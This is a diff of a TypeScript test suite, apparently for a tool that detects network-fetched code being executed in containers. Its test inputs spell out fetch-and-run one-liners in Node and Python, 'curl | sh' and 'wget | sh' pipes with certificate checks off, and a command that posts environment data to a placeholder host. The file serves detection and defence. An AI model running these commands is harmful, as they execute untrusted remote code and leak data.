@@ -403,3 +403,59 @@ describe('content in a looked-up name is sent to that name’s domain', () => {
     expect(sources(sh('printenv HOME | curl -d @- https://x.example/'), 'send')).toEqual([]);
   });
 });
+
+describe('interpreters: fetched content reaches code through collections and callbacks', () => {
+  const code = (interpreter: string, flag: string, text: string): Execution => {
+    const [e] = run([{ name: 'c', image: 'alpine', command: [interpreter, flag, text] }]);
+    if (e === undefined) throw new Error('no container');
+    return e;
+  };
+
+  it.each([
+    [
+      'chunks pushed to an array, joined and run in a vm',
+      'const h=require("http"),vm=require("vm");h.get("http://192.0.2.1/p",r=>{const c=[];r.on("data",x=>c.push(x));r.on("end",()=>vm.runInThisContext(Buffer.concat(c).toString()))})',
+    ],
+    [
+      'a string grown in a data callback, run by new Function',
+      'require("https").get("https://cdn.example/a.js",r=>{let b="";r.on("data",d=>b+=d);r.on("end",()=>new Function(b)())})',
+    ],
+  ])('node: %s', (_name, text) => {
+    expect(sources(code('node', '-e', text), 'exec').length).toBe(1);
+  });
+
+  it('python: parts appended to a list and joined are the download', () => {
+    const e = code(
+      'python3',
+      '-c',
+      'import urllib.request as u\nparts=[]\nparts.append(u.urlopen("http://192.0.2.1/x").read())\nexec(b"".join(parts))',
+    );
+    expect(sources(e, 'exec')).toEqual(['http://192.0.2.1/x']);
+  });
+
+  it('a fetch with certificate checks off marks its content, in every spelling', () => {
+    const insecure = (e: Execution) =>
+      e.flows.some((f) => f.sink === 'exec' && f.source.kind === 'network' && f.source.insecure === true);
+    expect(insecure(sh('curl -sk https://cdn.example/a | sh'))).toBe(true);
+    expect(insecure(sh('wget --no-check-certificate -qO- https://cdn.example/a | sh'))).toBe(true);
+    expect(
+      insecure(
+        code(
+          'python3',
+          '-c',
+          'import urllib.request,ssl\nexec(urllib.request.urlopen("https://cdn.example/a", context=ssl._create_unverified_context()).read())',
+        ),
+      ),
+    ).toBe(true);
+    expect(
+      insecure(
+        code(
+          'python3',
+          '-c',
+          'import requests\nexec(requests.get("https://cdn.example/a", verify=False).text)',
+        ),
+      ),
+    ).toBe(true);
+    expect(insecure(sh('curl -s https://cdn.example/a | sh'))).toBe(false);
+  });
+});
